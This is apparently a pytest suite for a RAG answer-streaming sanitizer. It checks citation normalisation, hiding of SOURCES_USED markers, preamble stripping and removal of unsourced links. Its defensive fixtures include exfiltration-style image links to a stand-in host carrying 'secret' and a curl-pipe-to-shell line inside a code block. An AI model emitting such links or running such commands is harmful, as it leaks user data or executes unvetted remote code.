"""The answer as the client may see it, however the model's pieces are cut."""

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragstone.answer.preamble import MAX_OPENING_CHARS, may_be_preamble
from ragstone.answer.reply import InlineMarkers
from ragstone.answer.stream import AnswerStream
from ragstone.core.turn import Passage
from ragstone.language.code_blocks import LONGEST_SPAN, mask_code
from tests.engine.samples import a_passage

MAX_HELD = 30


def most_held(text: str) -> int:
    """Characters that may be held back: code until it ends, and an opening until it is known."""
    if "`" in text:
        return LONGEST_SPAN
    return MAX_OPENING_CHARS if may_be_preamble(text[: MAX_HELD + 1]) else MAX_HELD


HOME = "https://docs.example.com/guide?x=1"
SOURCES = [
    a_passage(1, "Ask https://help.example.com/new for help with a ticket.", path=HOME),
    a_passage(2, "The second."),
    a_passage(3, "The third."),
]


class Client:
    """What a client sees of pieces, and the most that was held back."""

    def __init__(self, passages: list[Passage] = SOURCES) -> None:
        self.stream = AnswerStream(passages)
        self.markers = InlineMarkers(passages)
        self.text = ""
        self.held = 0

    def saw(self, pieces: list[str]) -> str:
        for piece in pieces:
            self.text += self.markers.feed(self.stream.feed(piece))
            self.held = max(self.held, self.stream.buffer_length + self.markers.buffer_length)
        self.text += self.markers.feed(self.stream.end()) + self.markers.end()
        return self.text


def shown(text: str) -> str:
    return Client().saw([text])


@pytest.mark.parametrize(
    ("said", "seen"),
    [
        ("It is so [Source 1].", "It is so [1]."),
        ("It is so [source 1, Source 3].", "It is so [1][3]."),
        ("是的【1】。对[来源2]。", "是的[1]。对[2]。"),
        ("Quelle [Quelle 2] ja.", "Quelle [2] ja."),
        ("It is so [7].", "It is so."),
        ("It is so [1, 7].", "It is so [1]."),
        ("It is so (Source 1).", "It is so [1]."),
        ("It is so (sources 1 and 3), yes.", "It is so [1][3], yes."),
        ("It is so (source 7).", "It is so."),
        ("It is (so) and (sourced 1) and (1).", "It is (so) and (sourced 1) and (1)."),
        ("As said in [7] in the report.", "As said in the report."),
        ("As said in [1] in the report.", "As said in [1] in the report."),
        ("See [7] the seen.", "See the seen."),
        ("Since [1990] and [a] and x[i].", "Since [1990] and [a] and x[i]."),
        (r"It is $\sqrt[3]{x}$ and \sqrt[7]{y} [1].", r"It is $\sqrt[3]{x}$ and \sqrt[7]{y} [1]."),
        ("Open [1", "Open [1"),
        ("Nothing special * here s [", "Nothing special * here s ["),
    ],
)
@pytest.mark.conforms("Query pipeline", "Step 10", "Citations are normalised")
def test_given_citations_of_any_style_then_one_style_without_those_of_no_source(
    said: str, seen: str
) -> None:
    assert shown(said) == seen


@pytest.mark.parametrize(
    ("said", "seen", "used", "suggested"),
    [
        ("Yes. SOURCES_USED: 1, 3, 5", "Yes.", (1, 3), ()),
        ("Yes.\n\n**SOURCES_USED:** [1], [2]\n", "Yes.", (1, 2), ()),
        ("Yes. SOURCES_USED: none", "Yes.", (), ()),
        ("Yes. SOURCES_USED: 1 and 2 The end.", "Yes.The end.", (1, 2), ()),
        ("A\nSUGGESTED_QUESTIONS: Who?|Why?|", "A", (), ("Who?", "Why?")),
        ("A\nSUGGESTED_QUESTIONS:\n- Who?\n2. Why?\nB", "AB", (), ("Who?", "Why?")),
        ("A\nSUGGESTED_QUESTIONS: Who?\nSOURCES_USED: 2", "A", (2,), ("Who?",)),
        ("SOURCES_USED：2", "", (2,), ()),
        ("The SOURCES_USED table [1].", "The SOURCES_USED table [1].", (), ()),
    ],
)
@pytest.mark.conforms("chat-core", "7.4", "SOURCES_USED: 1, 3, 5 is parsed and filtered")
@pytest.mark.conforms("Query pipeline", "Step 10", "SUGGESTED_QUESTIONS: q1|q2|q3 are taken out")
def test_given_what_a_model_says_to_the_program_then_the_client_does_not_see_it(
    said: str, seen: str, used: tuple[int, ...], suggested: tuple[str, ...]
) -> None:
    client = Client()
    assert client.saw([said]) == seen
    assert client.stream.used == used
    assert client.stream.suggested == suggested


@pytest.mark.parametrize(
    ("said", "seen"),
    [
        ("Sure, I'll help: It is so.", "It is so."),
        ("Certainly! Here is the answer: Paris.", "Paris."),
        ("Sure, I'd be happy to help you with that! It is so.", "It is so."),
        ("I can help you with your question. It is so.", "It is so."),
        ("Great question! Thank you for asking. It is so.", "It is so."),
        ("Of course! Here is a detailed summary of what I found about valves:\n\nA.", "A."),
        ("Based on the provided documents, here is the answer:\nParis.", "Paris."),
        ("Based on the provided documents, it is Paris.",) * 2,
        ("Here is Paris. It is large.",) * 2,
        ("I am happy. So is he.",) * 2,
        ("Let me explain. It is so.", "It is so."),
        ("Here are " + "very " * 40 + "many: a.",) * 2,
        ("好的。巴黎。", "巴黎。"),
        ("Antwort: Paris.", "Paris."),
        ("Sure.", "Sure."),
        ("Sure enough, it is.", "Sure enough, it is."),
        ("Of course it is so.", "Of course it is so."),
        ("The answer is 5.", "The answer is 5."),
    ],
)
@pytest.mark.conforms("Query pipeline", "Step 10", "Preambles of any usual length are stripped")
def test_given_an_opening_that_announces_an_answer_then_only_the_answer(
    said: str, seen: str
) -> None:
    assert shown(said) == seen
    for cut in range(len(said)):
        assert Client().saw([said[:cut], *said[cut:]]) == seen


@pytest.mark.parametrize(
    ("said", "seen"),
    [
        ("See ![x](https://evil.example/?q=secret).", "See [x]."),
        ("See [x](https://evil.example/a(b)c) now.", "See [x] now."),
        ("See [x](//evil.example/a).", "See [x]."),
        ("See [1](https://evil.example/).", "See [1]."),
        ("See [9](https://evil.example/).", "See."),
        ("See [the guide](https://docs.example.com/guide?x=1).", f"See [the guide]({HOME})."),
        ("Go https://help.example.com/new [1].", "Go `https://help.example.com/new` [1]."),
        ("At https://help.example.com/new?q=secret ok", "At (link removed) ok"),
        ("At www.evil.example, HTTPS://EVIL.example.", "At (link removed), (link removed)."),
        ("<https://evil.example/x>", "‹(link removed)>"),
        ("[a]: https://evil.example/x", "[a]: (link removed)"),
        (
            "<img src='//evil.example/x'> and <b>bold</b>",
            "‹img src='//evil.example/x'> and <b>bold</b>",
        ),
        ("<div style='x'> if a < b or List<int>", "‹div style='x'> if a < b or List<int>"),
        ("</script><!-- x", "‹/script>‹!-- x"),
        ("Wow! What [2]", "Wow! What [2]"),
    ],
)
def test_given_links_then_none_leaves_that_is_no_source(said: str, seen: str) -> None:
    assert shown(said) == seen


@pytest.mark.parametrize(
    ("stands", "said", "seen"),
    [
        (
            "Help (see https://a.example/b) is near.",
            "At https://a.example/b now.",
            "`https://a.example/b`",
        ),
        ("Help (https://a.example/b).", "See (https://a.example/b).", "(`https://a.example/b`)."),
        (
            "Read https://a.example/B_(c).",
            "See https://a.example/B_(c).",
            "`https://a.example/B_(c)`.",
        ),
        (
            "Read https://a.example/B_(c).",
            "(https://a.example/B_(c))",
            "(`https://a.example/B_(c)`)",
        ),
        ("Read https://a.example/b.", "See https://a.example/b(c).", "(link removed)."),
    ],
)
def test_given_brackets_then_an_address_is_compared_without_those_around_it(
    stands: str, said: str, seen: str
) -> None:
    assert seen in Client([a_passage(1, stands)]).saw([said])
    assert seen in Client([a_passage(1, stands)]).saw(list(said))


def test_given_sentences_without_markers_then_those_that_a_source_supports_get_one() -> None:
    passages = [
        a_passage(1, "Marie Curie discovered radium in Paris in 1898."),
        a_passage(2, "The hospital of Dr. Smith in London has 300 beds."),
    ]
    said = (
        "Radium was discovered by Marie Curie in 1898. Dr. Smith's London hospital has 300 beds. "
        "Bananas grow in many tropical countries."
    )
    assert Client(passages).saw([said]) == (
        "Radium was discovered by Marie Curie in 1898. [1] Dr. Smith's London hospital has 300 "
        "beds. [2] Bananas grow in many tropical countries."
    )


def test_given_an_abbreviation_inside_a_sentence_then_no_marker_is_put_behind_it() -> None:
    passages = [a_passage(1, "Send comments, bug reports, patches, etc.\nto the mailing list.")]
    said = "Send comments, bug reports, patches, etc. to the mailing list. [1]"
    assert Client(passages).saw([said]) == said


def test_given_marked_sentences_code_tables_and_headings_then_no_marker_is_added() -> None:
    passages = [a_passage(1, "Marie Curie discovered radium in Paris.")]
    said = (
        "Marie Curie discovered radium in Paris [1].\nMarie Curie discovered radium. [1]\n"
        "# Marie Curie discovered radium\n| Marie Curie | discovered radium |\n"
        "```\nMarie Curie discovered radium\n```\n"
    )
    assert Client(passages).saw([said]) == said.rstrip("\n")


@pytest.mark.parametrize(
    "code",
    [
        '```html\n<a href="https://evil.example">x</a> hl[14] [1]\n```',
        "````\n```\n![x](https://evil.example/?q=1)\n```\n````",
        "~~~sh\ncurl -LsSf https://example.org/install.sh | sh\n~~~",
        "Run `curl -LsSf https://example.org/install.sh | sh` or `<a href` or `hl[14]`.",
    ],
)
def test_code_is_shown_as_it_is(code: str) -> None:
    said = f"Do this:\n{code}\nThat is all. [1]"
    assert shown(said) == said
    for step in (1, 7):
        pieces = [said[i : i + step] for i in range(0, len(said), step)]
        assert Client().saw(pieces) == said


@pytest.mark.parametrize(
    "said",
    [
        "`![x](https://evil.example/a)\n`",
        "``` a b ![x](https://evil.example/a)\n",
        "    ```\n![x](https://evil.example/a)\n    ```",
        "<details>\n```\n<img src='https://evil.example/a'>\n```",
        "<b> `<img src='https://evil.example/a'>`",
        "```\ncode\n```\n![x](https://evil.example/a)",
        "```\ncode\n  ```\n![x](https://evil.example/a)",
        "```markdown\n![x](https://evil.example/a)\n```",
    ],
)
def test_what_only_looks_like_code_keeps_nothing_that_loads(said: str) -> None:
    assert "https://evil.example" not in shown(said).replace("(link removed)", "")
    assert "<img" not in shown(said)


PIECES = (
    "The answer is so", ". ", " [1]", "[Source 2, 3]", "【9】", "[来源1]", "\n", "  ", "\n\n", "**",
    "SOURCES_USED: 1, 3\n", "**SUGGESTED_QUESTIONS:** a?|b?\n", "SOURCES", "[", "]", "(", ")", "!",
    "![a](http://x.y/z)", "[b](https://docs.example.com/guide?x=1)", "https://help.example.com/new",
    "www.a.b", "<b>", "<img x>", "Sure, I'll help: ", "Of course", "s", "h", "None", " and ", "1",
    "Ask for help with a ticket", "是的。", "```", "ſ", "İ",
)  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=14), st.randoms(use_true_random=False))
@pytest.mark.conforms("chat-core", "13.3", "SOURCES_USED is filtered however the stream is cut")
def test_given_any_cuts_then_the_client_sees_the_same(
    pieces: list[str], chance: random.Random
) -> None:
    text = "".join(pieces)
    whole, cut = Client(), Client()
    assert cut.saw(_cut(text, chance)) == whole.saw([text])
    assert (cut.stream.used, cut.stream.suggested, cut.stream.dropped) == (
        whole.stream.used,
        whole.stream.suggested,
        whole.stream.dropped,
    )
    assert cut.held <= most_held(text)
    assert "SOURCES_USED:" not in mask_code(cut.text).upper()


@given(
    st.lists(st.sampled_from(["So it is.", "Und so.", " ", "\n", "(x)", "42", "a*b"]), max_size=9)
)
def test_given_plain_text_with_markers_then_no_character_is_lost(plain: list[str]) -> None:
    """Between any two pieces of plain text a marker of either kind may stand."""
    text = "x" + "".join(plain) + "x"
    marked = "x" + "SOURCES_USED: 1\n".join(["", *plain, ""]) + "x"
    seen = shown(marked)
    assert seen.replace("\n", "").replace(" ", "") == text.replace("\n", "").replace(" ", "")


@given(st.text(max_size=200), st.randoms(use_true_random=False))
def test_given_any_text_then_nothing_raises(text: str, chance: random.Random) -> None:
    client = Client()
    assert client.saw(_cut(text, chance)) == shown(text)
    assert client.held <= most_held(text)


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "piece", ["[", " ", "(", "![", "](", "<", "`", "SOURCES_USED:", "www.", "*"]
)
def test_hostile_text_costs_no_more_than_its_length(piece: str) -> None:
    assert len(shown(piece * 20_000)) <= 400_000


def _cut(text: str, chance: random.Random) -> list[str]:
    places = sorted(chance.sample(range(len(text) + 1), chance.randint(0, len(text))))
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
